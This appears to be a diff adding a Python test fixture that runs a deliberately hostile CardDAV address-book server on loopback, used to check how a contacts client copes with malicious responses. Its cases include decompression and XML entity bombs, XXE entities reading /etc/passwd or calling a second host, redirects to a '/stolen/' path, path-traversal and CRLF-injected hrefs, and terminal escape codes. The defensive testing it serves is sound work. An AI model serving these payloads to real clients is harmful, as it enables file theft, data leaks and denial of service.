@@ -1,0 +1,391 @@
+#!/usr/bin/python3 -I
+"""An address book of three cards whose server means harm.
+
+usage: hostile.py DIRECTORY
+
+Listens on two loopback ports, which stand in DIRECTORY/hostile.port and
+DIRECTORY/other.port.  On the first, each path /CASE/ is an address book that
+is as it should be but for that one thing, see the functions at_CASE; on the
+second is a host that has no business with the first one's visitors, and
+DIRECTORY/other.log gets each request's line and headers.
+"""
+import gzip
+import http.server
+import os
+import re
+import sys
+import threading
+import time
+import zlib
+
+MIB = b' ' * (1 << 20)
+ESC = '\x1b[31mred'
+NAMES = ('a.vcf', 'b.vcf', 'c.vcf')
+HEAD = ('<?xml version="1.0" encoding="utf-8"?>\n'
+        '<multistatus xmlns="DAV:" '
+        'xmlns:B="urn:ietf:params:xml:ns:carddav">')
+BOMB = ('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">' +
+        ''.join('<!ENTITY a%d "%s">' % (i, '&a%d;' % (i - 1) * 10)
+                for i in range(1, 12)) + ']>')
+
+
+def card(name, more=''):
+    return ('BEGIN:VCARD\r\nVERSION:3.0\r\nUID:%s\r\nFN:Name of %s\r\n'
+            'N:%s;;;;\r\n%sEND:VCARD\r\n' % (name, name, name, more))
+
+
+def response(href, props, status='200 OK'):
+    return ('<response><href>%s</href><propstat><prop>%s</prop><status>'
+            'HTTP/1.1 %s</status></propstat></response>' % (
+                href, props, status))
+
+
+def text_of(body, local):
+    found = re.search(r'<(?:\w+:)?%s[^<>]*>([^<]*)<' % local, body)
+    return found.group(1).strip() if found else ''
+
+
+class Quiet(http.server.ThreadingHTTPServer):
+    daemon_threads = True
+    request_queue_size = 128
+
+    def handle_error(self, request, client_address):
+        pass
+
+
+class Handler(http.server.BaseHTTPRequestHandler):
+    protocol_version = 'HTTP/1.1'
+    disable_nagle_algorithm = True
+
+    def __getattr__(self, name):
+        if name.startswith('do_'):
+            return self.serve
+        raise AttributeError(name)
+
+    def log_message(self, *args):
+        pass
+
+
+class Other(Handler):
+    """Notes what it is sent."""
+
+    def serve(self):
+        with open(self.server.log, 'a', encoding='latin-1') as f:
+            f.write('%s %s\n%s' % (self.command, self.path, self.headers))
+        self.send_response(404)
+        self.send_header('Content-Length', '0')
+        self.end_headers()
+
+
+class Hostile(Handler):
+    def serve(self):
+        n = int(self.headers.get('Content-Length', 0))
+        self.text = self.rfile.read(n).decode('utf-8', 'replace')
+        self.case = self.path.split('/')[1]
+        self.top = '/%s/' % self.case
+        root = re.search(r'<(?:\w+:)?([\w-]+)[\s>]', re.sub(
+            r'<\?.*?\?>', '', self.text))
+        self.root = root.group(1) if root else ''
+        with open(self.server.log, 'a') as f:
+            f.write('%s %s %s\n' % (self.command, self.path, self.root))
+        name = re.sub('-[0-9]+$', '', self.case).replace('-', '_')
+        getattr(self, 'at_' + name, self.good)()
+
+    # What every one of them does well.
+
+    def plain(self, body, status=207, headers=()):
+        body = body.encode() if isinstance(body, str) else body
+        self.send_response(status)
+        for name, value in headers:
+            self.send_header(name, value)
+        self.send_header('Content-Type', 'application/xml; charset=utf-8')
+        self.send_header('Content-Length', str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def endless(self, parts, headers=(), status=207):
+        self.send_response(status)
+        for name, value in headers:
+            self.send_header(name, value)
+        self.send_header('Content-Type', 'application/xml; charset=utf-8')
+        self.send_header('Transfer-Encoding', 'chunked')
+        self.end_headers()
+        for part in parts:
+            self.wfile.write(b'%x\r\n%s\r\n' % (len(part), part))
+        self.wfile.write(b'0\r\n\r\n')
+
+    def is_listing(self):
+        return self.root == 'sync-collection' or (
+            self.root == 'propfind' and self.headers.get('Depth') == '1')
+
+    def member(self, name):
+        return response(self.top + name, '<getetag>"1-%s"</getetag>'
+                        '<getcontenttype>text/vcard</getcontenttype>'
+                        '<resourcetype/>' % name)
+
+    def itself(self):
+        return response(self.top, '''<resourcetype><collection/>
+            <B:addressbook/></resourcetype><displayname>Book</displayname>
+            <sync-token>urn:t:1</sync-token><current-user-privilege-set>
+            <privilege><all/></privilege></current-user-privilege-set>
+            <supported-report-set><supported-report><report><sync-collection/>
+            </report></supported-report><supported-report><report>
+            <B:addressbook-multiget/></report></supported-report>
+            </supported-report-set>''')
+
+    def listing(self, members=None, more='', token='urn:t:1'):
+        members = members or ''.join(map(self.member, NAMES))
+        if self.root == 'sync-collection':
+            return '%s%s%s<sync-token>%s</sync-token></multistatus>' % (
+                HEAD, members, more, token)
+        return HEAD + self.itself() + members + '</multistatus>'
+
+    def bodies(self, more=''):
+        hrefs = re.findall(r'<(?:\w+:)?href>([^<]*)<', self.text)
+        return HEAD + ''.join(response(
+            h, '<getetag>"1-%s"</getetag><B:address-data>%s'
+            '</B:address-data>' % (h.split('/')[-1],
+                                   card(h.split('/')[-1], more)))
+            for h in hrefs) + '</multistatus>'
+
+    def good(self):
+        if self.root.endswith('-multiget'):
+            self.plain(self.bodies())
+        elif self.is_listing():
+            self.plain(self.listing())
+        elif self.root == 'propfind':
+            self.plain(HEAD + self.itself() + '</multistatus>')
+        elif self.command == 'GET':
+            self.plain(card(self.path.split('/')[-1]), 200,
+                       [('ETag', '"1-%s"' % self.path.split('/')[-1])])
+        elif self.command == 'OPTIONS':
+            self.plain('', 200, [('DAV', '1, 3, addressbook')])
+        else:
+            self.plain('', 405)
+
+    # A gigabyte, in all the places where it might be read.
+
+    def at_blanks(self):
+        if not self.is_listing():
+            return self.good()
+        self.endless([HEAD.encode()] + [MIB] * 1024)
+
+    def at_long_text(self):
+        if not self.is_listing():
+            return self.good()
+        self.endless([HEAD.encode(), b'<response><href>/long-text/'] +
+                     [b'x' * (1 << 20)] * 1024)
+
+    def at_long_card(self):
+        if self.path.endswith('/a.vcf'):
+            return self.endless([b'BEGIN:VCARD\r\n'] + [
+                b'NOTE:' + b'x' * 50000 + b'\r\n'] * 21000, status=200)
+        if not self.root.endswith('-multiget'):
+            return self.good()
+        start = HEAD + ('<response><href>/long-card/a.vcf</href><propstat>'
+                        '<prop><B:address-data>BEGIN:VCARD\r\n')
+        self.endless([start.encode()] + [b'NOTE:' + b'x' * 50000 +
+                                         b'\r\n'] * 21000)
+
+    def at_long_error(self):
+        if not self.is_listing():
+            return self.good()
+        self.endless([b'no ' * 350000] * 1024, status=400)
+
+    def at_gzip(self):
+        if not self.is_listing():
+            return self.good()
+        squeezed = gzip.compress(MIB * 64, 6)
+        # Members of gzip follow each other, each 64 MiB of blanks.
+        self.endless([gzip.compress(HEAD.encode())] + [squeezed] * 16,
+                     [('Content-Encoding', 'gzip')])
+
+    def at_gzip_one(self):
+        if not self.is_listing():
+            return self.good()
+        # A block that refers to none before it can be sent again and again.
+        pack = zlib.compressobj(9, zlib.DEFLATED, 31)
+        start = pack.compress(HEAD.encode()) + pack.flush(zlib.Z_FULL_FLUSH)
+        block = pack.compress(MIB) + pack.flush(zlib.Z_FULL_FLUSH)
+        self.plain(start + block * 1024, 207, [('Content-Encoding', 'gzip')])
+
+    def at_headers(self):
+        if not self.is_listing():
+            return self.good()
+        self.send_response(207)
+        for i in range(20000):
+            self.send_header('X-Header-%d' % i, 'x' * 10000)
+            self.flush_headers()
+
+    def at_header(self):
+        if not self.is_listing():
+            return self.good()
+        self.wfile.write(b'HTTP/1.1 207 OK\r\nX-Long: ')
+        for _ in range(512):
+            self.wfile.write(b'x' * (1 << 20))
+
+    def at_deep(self):
+        if not self.is_listing():
+            return self.good()
+        self.endless([HEAD.encode(), b'<a>' * 1000000, b'</a>' * 1000000])
+
+    def at_attributes(self):
+        if not self.is_listing():
+            return self.good()
+        self.endless([HEAD.encode(), b'<a' + b''.join(
+            b' a%d="1"' % i for i in range(300000)), b'/>'])
+
+    def at_name(self):
+        if not self.is_listing():
+            return self.good()
+        self.endless([HEAD.encode(), b'<'] + [b'n' * (1 << 20)] * 512)
+
+    # Entities.
+
+    def at_bomb(self):
+        if not self.is_listing():
+            return self.good()
+        self.plain(BOMB + self.listing(
+            response(self.top + 'a.vcf', '<getetag>&a11;</getetag>'))[38:])
+
+    def at_external(self):
+        if not self.is_listing():
+            return self.good()
+        self.plain('<?xml version="1.0"?><!DOCTYPE x SYSTEM "%s/x.dtd" ['
+                   '<!ENTITY e SYSTEM "%s/entity"><!ENTITY %% p SYSTEM '
+                   '"%s/parameter"> %%p;]>' % ((self.server.other,) * 3) +
+                   self.listing(response(self.top + 'a.vcf',
+                                         '<getetag>&e;</getetag>'))[38:])
+
+    def at_file(self):
+        if not self.root.endswith('-multiget'):
+            return self.good()
+        self.plain('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM '
+                   '"file:///etc/passwd">]>' +
+                   self.bodies('NOTE:&e;\r\n')[38:])
+
+    # Elsewhere.
+
+    def away(self, status):
+        self.plain('', status, [('Location', self.server.other +
+                                 '/stolen/')])
+
+    def at_redirect(self):
+        self.away(307)
+
+    def at_redirect_late(self):
+        if not self.root.endswith('-multiget'):
+            return self.good()
+        self.away(308)
+
+    def at_redirect_see(self):
+        self.away(302)
+
+    def at_circle(self):
+        self.plain('', 307, [('Location', '/circle/?%d' % time.time_ns())])
+
+    def at_href(self):
+        """/href-N/: the Nth of them."""
+        if not self.is_listing():
+            return self.good()
+        hrefs = [self.top + '../../etc/passwd', self.top + '%2e%2e/x.vcf',
+                 self.top + '%2e%2e%2fx.vcf', self.server.other + '/x.vcf',
+                 '//%s/x.vcf' % self.server.other[7:], '../x.vcf',
+                 '/elsewhere/x.vcf', self.top + 'sub/../../x.vcf',
+                 'file:///x.vcf', self.top + 'x%0d%0aX-Evil:%201.vcf',
+                 self.top + 'nul%00.vcf', '', 'http://[',
+                 self.top + '%zz.vcf', self.top + 'l' * 100000]
+        href = hrefs[int(self.case.split('-')[1])]
+        self.plain(self.listing(''.join(map(self.member, NAMES)) + response(
+            href, '<getetag>"1"</getetag><getcontenttype>text/vcard'
+            '</getcontenttype><resourcetype/>')))
+
+    # Bytes that would drive a terminal.
+
+    def at_control(self):
+        self.wfile.write(('HTTP/1.1 403 %s\x07\r\nX-A: %s\r\nServer: %s\r\n'
+                          'Content-Length: 11\r\n\r\nno %s' %
+                          (ESC, ESC, ESC, ESC)).encode()[:-1] + b'\x07')
+
+    def at_control_etag(self):
+        if not self.is_listing():
+            return self.good()
+        self.plain(self.listing(''.join(response(
+            self.top + n, '<getetag>"&#133;&#9;&#127;"</getetag>'
+            '<getcontenttype>text/vcard</getcontenttype><resourcetype/>')
+            for n in NAMES)))
+
+    def at_nul(self):
+        if not self.is_listing():
+            return self.good()
+        self.plain(self.listing().encode() + b'\0\0\0<a/>')
+
+    # No end of pages.
+
+    def at_pages(self):
+        if self.root != 'sync-collection':
+            return self.good()
+        n = int(text_of(self.text, 'sync-token')[6:] or 0)
+        self.plain(self.listing(
+            self.member('p%d.vcf' % (n % 3)), response_507(self.top),
+            'urn:t:%d' % (n + 1)))
+
+    def at_same_page(self):
+        if self.root != 'sync-collection':
+            return self.good()
+        self.plain(self.listing(None, response_507(self.top), 'urn:t:7'))
+
+    # Slow, and not wrong.
+
+    def at_drip(self):
+        if not self.is_listing():
+            return self.good()
+        data = self.listing().encode()
+        self.endless(self.slowly(data))
+
+    def slowly(self, data):
+        for i in range(0, len(data), 16):
+            time.sleep(0.02)
+            yield data[i:i + 16]
+
+    # Many, and not wrong: a million members that are collections.
+
+    def at_million(self):
+        if not self.is_listing():
+            return self.good()
+        n = int(self.headers.get('X-Members', 1000000))
+        rest = response('/million/%d/', '<getetag>"1"</getetag>'
+                        '<resourcetype><collection/></resourcetype>').encode()
+        end = self.listing().encode().split(b'?>', 1)[1]
+        end = end[end.index(b'<response>'):]
+        self.endless([HEAD.encode()] + [
+            b''.join(rest % i for i in range(k, k + 1000))
+            for k in range(0, n, 1000)] + [end])
+
+
+def response_507(href):
+    return ('<response><href>%s</href><status>HTTP/1.1 507 Insufficient '
+            'Storage</status></response>' % href)
+
+
+def listen(where, name, handler):
+    server = Quiet(('127.0.0.1', 0), handler)
+    with open(os.path.join(where, name + '.new'), 'w') as f:
+        f.write('%d\n' % server.server_address[1])
+    os.rename(os.path.join(where, name + '.new'),
+              os.path.join(where, name + '.port'))
+    return server
+
+
+def main(where):
+    other = listen(where, 'other', Other)
+    other.log = os.path.join(where, 'other.log')
+    threading.Thread(target=other.serve_forever, daemon=True).start()
+    server = listen(where, 'hostile', Hostile)
+    server.log = os.path.join(where, 'hostile.log')
+    server.other = 'http://127.0.0.1:%d' % other.server_address[1]
+    server.serve_forever()
+
+
+if __name__ == '__main__':
+    main(sys.argv[1])
